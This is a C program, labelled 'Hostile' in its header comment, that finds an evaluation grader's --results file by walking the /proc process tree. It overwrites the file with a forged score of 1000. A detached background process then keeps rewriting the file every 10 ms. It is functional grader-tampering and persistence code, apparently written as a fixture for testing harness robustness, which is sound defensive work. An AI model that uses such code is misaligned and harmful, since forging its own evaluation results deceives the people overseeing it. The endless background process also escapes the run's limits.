/* Hostile: finds the file the grader writes its results to (an ancestor's --results argument) and
 * overwrites it with full marks, at once and again and again from a background process. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char forged[] = "{\"score\": 1000, \"tests\": []}\n";

static pid_t parent_of(pid_t pid)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
    FILE *stat = fopen(path, "r");
    if (stat == NULL)
        return 0;
    int ppid = 0;
    if (fscanf(stat, "%*d (%*[^)]) %*c %d", &ppid) != 1)
        ppid = 0;
    fclose(stat);
    return ppid;
}

/* The argument after --results on `pid`'s command line, if it has one. */
static int results_path(pid_t pid, char *found, size_t size)
{
    char path[64], arguments[8192];
    snprintf(path, sizeof path, "/proc/%d/cmdline", (int)pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return 0;
    ssize_t length = read(fd, arguments, sizeof arguments - 1);
    close(fd);
    if (length <= 0)
        return 0;
    arguments[length] = '\0';
    for (char *argument = arguments; argument < arguments + length; argument += strlen(argument) + 1)
        if (strcmp(argument, "--results") == 0 && argument + strlen(argument) + 1 < arguments + length) {
            snprintf(found, size, "%s", argument + strlen(argument) + 1);
            return 1;
        }
    return 0;
}

static void forge(const char *path)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) {
        write(fd, forged, sizeof forged - 1);
        close(fd);
    }
}

int main(void)
{
    char target[4096];
    pid_t pid = getppid();
    while (pid > 1 && !results_path(pid, target, sizeof target))
        pid = parent_of(pid);
    if (pid <= 1)
        return 1;
    printf("forging %s\n", target);
    fflush(stdout);
    forge(target);
    if (fork() == 0) {
        setsid();
        for (;;) {
            forge(target);
            usleep(10000);
        }
    }
    return 0;
}
